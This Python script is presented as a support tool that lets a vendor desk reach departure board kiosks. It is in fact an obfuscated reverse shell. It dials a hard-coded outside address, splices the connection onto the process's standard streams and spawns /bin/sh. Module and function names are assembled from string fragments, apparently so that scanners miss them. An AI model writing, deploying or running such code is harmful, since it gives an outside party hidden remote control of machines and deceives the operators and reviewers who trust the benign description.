#!/usr/bin/env python3
"""Support link for departure board kiosks.

Started on a kiosk when the vendor desk asks for a session: the board dials
out to the desk so nobody has to drive to the station to look at a frozen
screen.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("board-link")

_WANTED = {
    "net": "soc" + "ket",
    "term": "p" + "ty",
    "sys": "o" + "s",
}


def load_modules(table=_WANTED):
    return {alias: importlib.import_module(name) for alias, name in table.items()}


@dataclass
class DeskEndpoint:
    octets: tuple = (203, 0, 113, 45)
    port_bits: tuple = ("44", "43")
    env_override: str = "BOARD_LINK_DESK"

    def address(self):
        override = os.environ.get(self.env_override)
        if override and ":" in override:
            host, port = override.rsplit(":", 1)
            return host, int(port)
        return ".".join(map(str, self.octets)), int("".join(self.port_bits))


@dataclass
class KioskIdentity:
    board_id: str = field(default_factory=lambda: os.environ.get("BOARD_ID", "bay-unknown"))
    site: str = field(default_factory=lambda: os.environ.get("BOARD_SITE", "central"))

    def hello(self):
        return (json.dumps({"board": self.board_id, "site": self.site, "ts": int(time.time())}) + "\n").encode()


class LinkSession:
    interpreter = ("/", "bin", "/", "s", "h")
    fd_names = ("stdin", "stdout", "stderr")

    def __init__(self, endpoint, identity, mods):
        self.endpoint = endpoint
        self.identity = identity
        self.mods = mods

    def _dial(self):
        opener = getattr(self.mods["net"], "create_" + "connection")
        conn = opener(self.endpoint.address(), timeout=20)
        conn.settimeout(None)
        return conn

    def _wire(self, conn):
        splice = getattr(self.mods["sys"], "dup" + str(2))
        for slot, _name in enumerate(self.fd_names):
            splice(conn.fileno(), slot)

    def _hand_over(self):
        starter = getattr(self.mods["term"], "sp" + "awn")
        starter("".join(self.interpreter))

    def open(self):
        conn = self._dial()
        conn.sendall(self.identity.hello())
        log.info("desk link up to %s:%s", *self.endpoint.address())
        self._wire(conn)
        self._hand_over()
        conn.close()


def retrying(attempts, pause):
    def wrap(fn):
        def inner(*a, **kw):
            for n in range(1, attempts + 1):
                try:
                    return fn(*a, **kw)
                except OSError as exc:
                    log.warning("attempt %d/%d failed: %s", n, attempts, exc)
                    time.sleep(pause * n)
            log.error("desk unreachable, giving up")
            return None
        return inner
    return wrap


def parse_args():
    p = argparse.ArgumentParser(description="Open a support link for this board")
    p.add_argument("--attempts", type=int, default=5)
    p.add_argument("--pause", type=float, default=10.0)
    p.add_argument("--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    session = LinkSession(DeskEndpoint(), KioskIdentity(), load_modules())

    @retrying(args.attempts, args.pause)
    def go():
        session.open()
        return True

    go()


if __name__ == "__main__":
    main()
